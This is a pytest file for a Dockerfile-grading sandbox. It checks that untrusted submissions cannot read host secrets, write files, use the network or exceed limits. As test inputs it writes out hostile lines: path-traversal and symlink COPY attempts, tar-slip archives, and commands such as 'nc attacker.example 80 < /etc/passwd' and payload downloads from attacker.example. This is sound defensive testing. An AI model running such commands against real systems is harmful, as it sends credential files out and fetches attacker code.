"""The sandbox's guarantees, one test each: nothing outside a submission is read, nothing is
written, no network, no host process, limits end runaway builds naming the limit, and every
failure is a result for that submission only.

Holes found in code outside emu.grading are pinned by strict xfail tests (they turn into
failures, i.e. reminders to drop the marker, once fixed).
"""

from __future__ import annotations

import contextlib
import io
import os
import socket
import subprocess
import tarfile
import time
from pathlib import Path
from typing import Any

import pytest

from emu.errors import EmuError
from emu.fs import File, walk
from emu.grading import grade as grading
from emu.grading import loads_spec
from emu.grading.model import SandboxLimits
from emu.grading.run import build_folder
from emu.grading.sandbox import (
    LimitExceeded,
    RejectedError,
    Sandbox,
    SandboxViolation,
    count_folder,
    prepare_context,
)
from emu.testing import Link, build, write_context

TOKEN = "EMU-SANDBOX-SECRET-7f3a9c"


def _spec(limits: str = "") -> Any:
    return loads_spec(
        "schemaVersion: 2.0.0\nemuTests:\n  limits: {maxSeconds: 10"
        + (", " + limits if limits else "")
        + "}\n"
    )


@pytest.fixture
def host(tmp_path: Path) -> Path:
    """A host folder with a secret beside the submission folder ``ctx``."""
    (tmp_path / "secret.txt").write_text(TOKEN + "\n")
    (tmp_path / "secret-dir").mkdir()
    (tmp_path / "secret-dir" / "key").write_text(TOKEN + "\n")
    (tmp_path / "ctx").mkdir()
    return tmp_path


def _all_bytes(subject: Any) -> bytes:
    """Every file's bytes in every image the build produced, and the error text."""
    chunks = [subject.error_text().encode()]
    result = subject.result
    images = [result.image, *(s.image for s in result.stages if s.image)] if result else []
    for image in images:
        for _, node in walk(image.rootfs.root):
            if isinstance(node, File) and node.size < 1 << 20:
                chunks.append(node.data or b"")
    return b"\n".join(chunks)


# --- the tripwire ----------------------------------------------------------------------------


def test_tripwire_refuses_writes_reads_outside_processes_and_sockets(tmp_path: Path) -> None:
    inside = tmp_path / "in"
    inside.mkdir()
    (inside / "ok.txt").write_text("fine")
    (tmp_path / "out.txt").write_text("secret")
    with Sandbox([inside]) as box:
        assert (inside / "ok.txt").read_text() == "fine"
        assert os.listdir(inside) == ["ok.txt"]  # listing the submission is reading it
        import emu.engine.copying  # noqa: F401  - imports read Python's own folders: allowed

        attempts = [
            lambda: (tmp_path / "out.txt").read_text(),
            lambda: (inside / "new.txt").write_text("x"),
            lambda: open(inside / "ok.txt", "a"),  # noqa: SIM115
            lambda: os.open(str(inside / "ok.txt"), os.O_WRONLY),
            lambda: os.listdir(tmp_path),
            lambda: os.remove(inside / "ok.txt"),
            lambda: os.mkdir(inside / "d"),
            lambda: subprocess.run(["true"], check=False),
            lambda: os.system("true"),
            lambda: socket.socket(),
            lambda: socket.create_connection(("127.0.0.1", 9)),
        ]
        for attempt in attempts:
            with pytest.raises(SandboxViolation):
                attempt()
    assert len(box.violations) == len(attempts)
    assert any("read" in v and "out.txt" in v for v in box.violations)
    # Outside the block, nothing is refused.
    assert (tmp_path / "out.txt").read_text() == "secret"
    assert (inside / "ok.txt").exists() and not (inside / "new.txt").exists()


def test_imports_inside_the_sandbox_are_not_violations(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import importlib
    import sys

    fresh = tmp_path / "fresh-path-entry"
    fresh.mkdir()
    monkeypatch.syspath_prepend(str(fresh))
    monkeypatch.delitem(sys.modules, "colorsys", raising=False)
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    with Sandbox([tmp_path / "ctx"]) as box:
        assert sys.dont_write_bytecode  # an import must not try to write a .pyc
        importlib.import_module("colorsys")  # lists sys.path folders, reads the stdlib
    assert box.violations == []
    assert sys.dont_write_bytecode is False


def test_tripwire_is_per_thread(tmp_path: Path) -> None:
    import threading

    (tmp_path / "x").write_text("x")
    seen: list[str] = []
    with Sandbox([tmp_path / "nothing"]):
        t = threading.Thread(target=lambda: seen.append((tmp_path / "x").read_text()))
        t.start()
        t.join()
    assert seen == ["x"]


# --- reading a submission --------------------------------------------------------------------


def test_links_out_of_a_submission_are_refused_not_followed(host: Path) -> None:
    settings = _spec().build
    ctx = host / "ctx"
    (ctx / "index.html").write_text("hi")
    os.symlink(host / "secret.txt", ctx / "Dockerfile")
    with pytest.raises(RejectedError, match="is a symbolic link"):
        prepare_context(ctx, settings, SandboxLimits())
    (ctx / "Dockerfile").unlink()
    (ctx / "Dockerfile").write_text("FROM scratch\nCOPY index.html /\n")
    os.symlink(host / "secret.txt", ctx / ".dockerignore")
    with pytest.raises(RejectedError, match=r"\.dockerignore"):
        prepare_context(ctx, settings, SandboxLimits())
    (ctx / ".dockerignore").unlink()
    os.symlink(ctx, host / "linked-submission")
    with pytest.raises(RejectedError, match="symbolic link"):
        prepare_context(host / "linked-submission", settings, SandboxLimits())
    # A Dockerfile below a linked folder is refused too.
    os.symlink(host / "secret-dir", ctx / "docker")
    from dataclasses import replace

    with pytest.raises(RejectedError):
        prepare_context(ctx, replace(settings, dockerfile="docker/key"), SandboxLimits())
    with pytest.raises(RejectedError, match="not a path inside"):
        prepare_context(ctx, replace(settings, dockerfile="../secret.txt"), SandboxLimits())
    with pytest.raises(RejectedError, match="not a path inside"):
        prepare_context(
            ctx, replace(settings, dockerfile=str(host / "secret.txt")), SandboxLimits()
        )


HOSTILE_COPIES = [
    "COPY ../secret.txt /loot",
    "COPY ../../../../../../{host}/secret.txt /loot",
    "COPY {host}/secret.txt /loot",
    "COPY abs-link /loot",
    "COPY rel-link /loot",
    "COPY dir-link/key /loot",
    "COPY dir-link /loot",
    "ADD ../secret.txt /loot",
    "ADD abs-link /loot",
    "RUN --mount=type=bind,source=../secret.txt,target=/m cat /m > /loot || true",
    "RUN --mount=type=bind,source=dir-link,target=/m cat /m/key > /loot || true",
    "RUN cat {host}/secret.txt > /loot || true",
    "COPY --from={host}/secret.txt / /loot",
]


@pytest.mark.parametrize("line", HOSTILE_COPIES)
def test_nothing_outside_the_submission_is_read(host: Path, line: str) -> None:
    ctx = host / "ctx"
    os.symlink(host / "secret.txt", ctx / "abs-link")
    os.symlink("../secret.txt", ctx / "rel-link")
    os.symlink(host / "secret-dir", ctx / "dir-link")
    (ctx / "Dockerfile").write_text("FROM busybox\n" + line.format(host=host) + "\n")
    with Sandbox([ctx]) as box:
        subject = build_folder(ctx, _spec(), untrusted=True)
    assert box.violations == []
    assert TOKEN.encode() not in _all_bytes(subject)


def test_symlinks_in_a_context_are_copied_as_links_never_resolved_on_the_host(host: Path) -> None:
    ctx = host / "ctx"
    os.symlink(host / "secret.txt", ctx / "abs-link")
    (ctx / "Dockerfile").write_text("FROM scratch\nCOPY . /ctx/\n")
    with Sandbox([ctx]) as box:
        subject = build_folder(ctx, _spec(), untrusted=True)
    assert box.violations == [] and subject.result is not None
    node = subject.result.image.rootfs.fs().lookup("/ctx/abs-link", follow=False)
    assert node is not None and node.kind.value == "symlink"
    assert TOKEN.encode() not in _all_bytes(subject)


def _tar(entries: list[tarfile.TarInfo | tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.GNU_FORMAT) as tf:
        for e in entries:
            if isinstance(e, tarfile.TarInfo):
                tf.addfile(e)
            else:
                info = tarfile.TarInfo(e[0])
                info.size = len(e[1])
                tf.addfile(info, io.BytesIO(e[1]))
    return buf.getvalue()


def _link(name: str, target: str, hard: bool = False) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
    info.linkname = target
    return info


def test_tar_slip_in_add_never_reaches_the_host(host: Path) -> None:
    ctx = host / "ctx"
    payload = _tar(
        [
            (str(host / "absolute-slip"), b"pwned"),
            _link("rootlink", "/"),
            ("rootlink" + str(host / "through-link-slip"), b"pwned"),
            _link("hostlink", str(host)),
            ("hostlink/through-hostlink-slip", b"pwned"),
            _link("soft-secret", str(host / "secret.txt")),
        ]
    )
    (ctx / "payload.tar.gz").write_bytes(payload)
    (ctx / "Dockerfile").write_text(
        "FROM busybox\nADD payload.tar.gz /dest/\nRUN cat /dest/soft-secret > /loot || true\n"
    )
    before = sorted(p.name for p in host.iterdir())
    with Sandbox([ctx]) as box:
        subject = build_folder(ctx, _spec(), untrusted=True)
    assert box.violations == [] and subject.result is not None, subject.error_text()
    assert sorted(p.name for p in host.iterdir()) == before  # nothing written on the host
    assert TOKEN.encode() not in _all_bytes(subject)
    fs = subject.result.image.rootfs.fs()
    # Absolute names and link targets are taken from the destination, as BuildKit does.
    assert fs.lookup("/dest" + str(host / "absolute-slip")) is not None
    assert fs.lookup("/dest" + str(host / "through-hostlink-slip")) is not None


def test_tar_entries_leaving_the_destination_fail_the_build_off_the_host(host: Path) -> None:
    # Current BuildKit refuses a name or a hard link climbing out with ".." (Docker 20.10's
    # chroot clamped them into the destination; golden case 125), and a hard link to a
    # host path is a link to a missing file of the destination.
    for entry, why in (
        (("../" * 12 + str(host / "dotdot-slip").lstrip("/"), b"pwned"), "outside extraction"),
        (_link("hard", "../" * 12 + str(host / "secret.txt").lstrip("/"), hard=True), "outside"),
        (_link("hard", str(host / "secret.txt"), hard=True), "no such file or directory"),
    ):
        ctx = host / "ctx"
        (ctx / "payload.tar.gz").write_bytes(_tar([entry]))
        (ctx / "Dockerfile").write_text("FROM busybox\nADD payload.tar.gz /dest/\n")
        before = sorted(p.name for p in host.iterdir())
        with Sandbox([ctx]) as box:
            subject = build_folder(ctx, _spec(), untrusted=True)
        assert box.violations == [] and subject.result is None
        assert why in subject.error_text()
        assert sorted(p.name for p in host.iterdir()) == before  # nothing written on the host


def test_tar_slip_through_a_symlink_stays_inside_the_destination() -> None:
    payload = _tar([_link("rootlink", "/"), ("rootlink/etc/slipped", b"pwned")])
    result = build({"Dockerfile": "FROM busybox\nADD p.tar.gz /dest/\n", "p.tar.gz": payload})
    fs = result.image.rootfs.fs()
    assert fs.lookup("/etc/slipped") is None
    assert fs.lookup("/dest/etc/slipped") is not None


def test_api_build_does_not_follow_a_dockerfile_link_out_of_the_context(host: Path) -> None:
    from emu.api import build as api_build

    ctx = host / "ctx"
    os.symlink(host / "secret.txt", ctx / "Dockerfile")
    with Sandbox([ctx]) as box, contextlib.suppress(EmuError):
        api_build(ctx)
    assert box.violations == []


def test_context_does_not_follow_an_ignore_file_link_out_of_the_context(host: Path) -> None:
    from emu.engine.context import from_directory

    ctx = host / "ctx"
    (ctx / "Dockerfile").write_text("FROM scratch\n")
    os.symlink(host / "secret.txt", ctx / ".dockerignore")
    with Sandbox([ctx]) as box, contextlib.suppress(EmuError):
        from_directory(ctx)
    assert box.violations == []


# --- no network, no host process, nothing written ------------------------------------------

HOSTILE_RUNS = [
    "RUN wget -q -O /x http://attacker.example/x || true",
    "RUN curl -fsS https://attacker.example/x -o /x || true",
    "RUN git clone https://attacker.example/repo.git /r || true",
    "RUN nc attacker.example 80 < /etc/passwd || true",
    "RUN apk add --no-cache curl || true",
    "RUN sh -c 'exec /bin/sh -c \"echo escaped > /escaped\"'",
    "RUN python3 -c 'import os; os.system(\"touch /tmp/pwned\")' || true",
    "RUN echo pwned > /proc/self/mem || true",
    "ADD https://attacker.example/payload.sh /p.sh",
    "ADD git@github.com:attacker/repo.git /repo",
]


@pytest.mark.parametrize("line", HOSTILE_RUNS)
def test_no_network_no_process_no_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    called: list[str] = []

    def forbid(name: str) -> Any:
        def raiser(*args: object, **kwargs: object) -> None:
            called.append(name)
            raise AssertionError(f"{name} was called during a build")

        return raiser

    for mod, names in (
        (socket, ["socket", "create_connection", "getaddrinfo", "gethostbyname"]),
        (subprocess, ["Popen", "run", "call", "check_output"]),
        (os, ["system", "popen", "fork", "execv", "execve", "execvp", "posix_spawn", "spawnv"]),
    ):
        for name in names:
            if hasattr(mod, name):
                monkeypatch.setattr(mod, name, forbid(f"{mod.__name__}.{name}"))
    monkeypatch.setenv("EMU_HOME", str(tmp_path / "emu-home"))
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "Dockerfile").write_text("FROM alpine:3.19\n" + line + "\n")
    before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")}
    cwd_before = sorted(os.listdir(os.getcwd()))
    with Sandbox([ctx]) as box:
        subject = build_folder(ctx, _spec(), untrusted=True)
    assert called == [] and box.violations == []
    assert {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")} == before
    assert sorted(os.listdir(os.getcwd())) == cwd_before
    assert not (tmp_path / "emu-home").exists()
    if line.startswith("ADD"):
        assert subject.error is not None
        assert "network" in subject.error_text() or "never" in subject.error_text()


# --- limits ------------------------------------------------------------------------------------

LIMIT_CASES = [
    ("max_steps", "maxSteps: 1000", "RUN while :; do :; done"),
    pytest.param(
        "max_seconds",
        "maxSteps: 1000000000, maxSeconds: 1",
        "RUN while :; do :; done",
        marks=pytest.mark.slow,  # runs its full second
    ),
    ("max_output", "maxOutput: 10kB", "RUN while :; do echo spam spam spam; done"),
    ("max_files", "maxFiles: 100", "RUN i=0; while :; do : > /f$i; i=$((i+1)); done"),
    (
        "max_bytes",
        "maxBytes: 100kB",
        "RUN x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; while :; do echo $x >> /big; done",
    ),
    ("max_depth", "maxDepth: 20", "RUN f() { f; }; f"),
]


@pytest.mark.parametrize(("limit", "setting", "line"), LIMIT_CASES)
def test_limits_end_runaway_builds_naming_the_limit(
    tmp_path: Path, limit: str, setting: str, line: str
) -> None:
    spec = _spec(setting.replace("maxSeconds: 1", "maxSeconds: 1.0"))
    if "maxSeconds" in setting:
        from dataclasses import replace

        spec = replace(spec, limits=replace(spec.limits, max_seconds=1.0))
    (tmp_path / "Dockerfile").write_text("FROM alpine:3.19\n" + line + "\n")
    started = time.monotonic()
    with Sandbox([tmp_path]):
        subject = build_folder(tmp_path, spec, untrusted=True)
    assert time.monotonic() - started < 8
    assert isinstance(subject.error, EmuError)
    assert f"limit exceeded: {limit}" in subject.error.message


def test_context_limits_refuse_before_reading(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM scratch\nCOPY . /\n")
    big = tmp_path / "ten-gb.bin"
    with big.open("wb") as f:
        f.truncate(10 * 1024**3)  # sparse: costs no disk
    started = time.monotonic()
    with pytest.raises(LimitExceeded, match=r"limit exceeded: max_context_bytes"):
        count_folder(str(tmp_path), SandboxLimits(max_context_bytes=100 * 1024**2))
    subject = build_folder(tmp_path, _spec("maxContextBytes: 100MB"), untrusted=True)
    assert subject.error is not None and "max_context_bytes" in subject.error.message
    assert time.monotonic() - started < 2
    big.unlink()
    many = tmp_path / "many"
    many.mkdir()
    for i in range(60):
        (many / str(i)).write_text("")
    subject = build_folder(tmp_path, _spec("maxContextFiles: 50"), untrusted=True)
    assert subject.error is not None and "max_context_files (50)" in subject.error.message
    (tmp_path / "Dockerfile").write_text("FROM scratch\n" + "LABEL a=b\n" * 20000)
    subject = build_folder(
        tmp_path, _spec("maxDockerfileBytes: 10kB, maxContextFiles: 100"), untrusted=True
    )
    assert subject.error is not None and "max_dockerfile_bytes" in subject.error.message


@pytest.mark.slow
def test_memory_limit_in_a_worker(tmp_path: Path) -> None:
    sub = tmp_path / "subs" / "doubling"
    sub.mkdir(parents=True)
    (sub / "Dockerfile").write_text('FROM alpine:3.19\nRUN x=a; while :; do x="$x$x"; done\n')
    spec = _spec("maxMemory: 1GiB, maxSteps: 100000000")
    started = time.monotonic()
    (g,) = grading.grade(spec, [grading.Submission("doubling", str(sub))], jobs=1)
    assert g.status == grading.LIMIT, g.message
    assert "max_memory" in g.message
    assert time.monotonic() - started < 30


@pytest.mark.slow
def test_hard_timeout_kills_the_worker_and_grading_goes_on(tmp_path: Path) -> None:
    # The worker holds b-fine while it grades a-slow (the next task, sent ahead): killing
    # the worker must give b-fine to its replacement, not lose it or blame it.
    subs = tmp_path / "subs"
    fine = ("b-fine", "c-fine", "d-fine")
    for name, run in (("a-slow", "RUN while :; do :; done"), *((f, "RUN true") for f in fine)):
        (subs / name).mkdir(parents=True)
        (subs / name / "Dockerfile").write_text(f"FROM alpine:3.19\n{run}\n")
    spec = _spec("maxSeconds: 60, maxSteps: 1000000000, hardTimeout: 1.5")
    found, _ = grading.discover(subs)
    started = time.monotonic()
    grades = grading.grade(spec, found, jobs=1)
    assert time.monotonic() - started < 20
    assert [g.status for g in grades] == [grading.TIMEOUT] + [grading.GRADED] * 3
    assert "hard timeout" in grades[0].message
    assert [g.name for g in grades] == ["a-slow", *fine]


# --- every failure is a result -------------------------------------------------------------


def test_a_bug_in_emu_is_an_internal_error_for_that_submission_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import importlib

    evaluate_module = importlib.import_module("emu.grading.evaluation")

    subs = tmp_path / "subs"
    for name in ("a", "boom", "c"):
        write_context({"Dockerfile": "FROM busybox\nLABEL who=" + name + "\n"}, subs / name)
    real = evaluate_module.evaluate

    def flaky(spec: Any, subject: Any) -> Any:
        if subject.label.endswith("boom"):
            raise ZeroDivisionError("a bug")
        return real(spec, subject)

    monkeypatch.setattr(evaluate_module, "evaluate", flaky)
    found, _ = grading.discover(subs)
    grades = grading.grade(_spec(), found, jobs=-1)
    assert [g.status for g in grades] == [grading.GRADED, grading.INTERNAL, grading.GRADED]
    assert "ZeroDivisionError: a bug" in grades[1].message
    assert "not the submission's fault" in grades[1].message


@pytest.mark.slow
def test_a_worker_that_dies_fails_only_its_submission(tmp_path: Path) -> None:
    import multiprocessing
    import threading

    subs = tmp_path / "subs"
    write_context({"Dockerfile": "FROM alpine:3.19\nRUN while :; do :; done\n"}, subs / "a-slow")
    fine = ("b-fine", "c-fine", "d-fine")  # b-fine is sent ahead, to wait in a-slow's worker
    for name in fine:
        write_context({"Dockerfile": "FROM busybox\n"}, subs / name)
    spec = _spec("maxSeconds: 60, maxSteps: 1000000000")
    kills: list[int] = []
    stop = threading.Event()

    def cpu_seconds(pid: int) -> float:
        try:
            with open(f"/proc/{pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            return 0.0
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def killer() -> None:
        # Kill the worker twice while it grades a-slow (as the OOM killer might). A worker
        # is known to be busy with a-slow by the CPU it has used, not by its age: on a loaded
        # machine a worker can take seconds to start, and killing it then is a start-up
        # death, which the pool (rightly) does not count against the submission.
        while not stop.is_set() and len(kills) < 2:
            for child in multiprocessing.active_children():
                if cpu_seconds(child.pid or 0) > 2.0:
                    kills.append(child.pid or 0)
                    child.kill()
            time.sleep(0.05)

    thread = threading.Thread(target=killer)
    thread.start()
    try:
        found, _ = grading.discover(subs)
        grades = grading.grade(spec, found, jobs=1)
    finally:
        stop.set()
        thread.join()
    assert len(kills) == 2
    assert [g.status for g in grades] == [grading.INTERNAL] + [grading.GRADED] * 3
    assert [g.name for g in grades] == ["a-slow", *fine]
    assert "worker died (signal 9) twice" in grades[0].message


def test_a_symlinked_submission_is_rejected(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    write_context({"Dockerfile": "FROM busybox\n"}, tmp_path / "elsewhere")
    subs.mkdir()
    os.symlink(tmp_path / "elsewhere", subs / "linked")
    write_context({"Dockerfile": "FROM busybox\n", "x": Link("/etc/passwd")}, subs / "plain")
    found, _ = grading.discover(subs)
    grades = grading.grade(_spec(), found, jobs=-1)
    assert [(g.name, g.status) for g in grades] == [
        ("linked", grading.REJECTED),
        ("plain", grading.GRADED),
    ]


@pytest.mark.slow
def test_truncate_to_ten_gigabytes_stops_at_max_bytes(tmp_path: Path) -> None:
    sub = tmp_path / "subs" / "big"
    write_context({"Dockerfile": "FROM alpine:3.19\nRUN truncate -s 10G /big\n"}, sub)
    spec = _spec("maxBytes: 100MB, maxMemory: 1GiB")
    (g,) = grading.grade(spec, [grading.Submission("big", str(sub))], jobs=1)
    assert "limit exceeded: max_bytes" in g.message, g.message


def test_the_sandboxs_realpath_is_os_realpath(tmp_path: Path) -> None:
    """The sandbox resolves a folder once and then only a path's last component: for every
    path through links (to a file, a folder, outside, a loop), ``.`` and ``..``, it says
    what os.path.realpath says, asked before and after its folders are remembered."""
    root = tmp_path / "sub"
    (root / "d" / "e").mkdir(parents=True)
    (root / "d" / "f.txt").write_text("x")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("s")
    (root / "to_d").symlink_to("d")
    (root / "d" / "to_f").symlink_to("f.txt")
    (root / "out").symlink_to(outside)
    (root / "d" / "up").symlink_to("..")
    (root / "loop").symlink_to("loop")
    (root / "abs").symlink_to(outside / "secret")
    tails = ["", "d", "d/f.txt", "to_d/f.txt", "to_d/e", "d/to_f", "out", "out/secret",
             "d/up/out/secret", "to_d/../out", "d/./f.txt", "loop", "abs", "missing",
             "d/missing/x", "d/f.txt/x", "d/", "to_d/"]  # fmt: skip
    paths = [str(root / t) if t else str(root) for t in tails] + ["/", str(root) + "//d"]
    box = Sandbox([root])
    for _ in range(2):
        for p in paths:
            assert box._realpath(p) == os.path.realpath(p), p
    assert box.allows_read(str(root / "to_d" / "f.txt"))
    assert not box.allows_read(str(root / "out" / "secret"))
    assert not box.allows_read(str(root / "abs"))
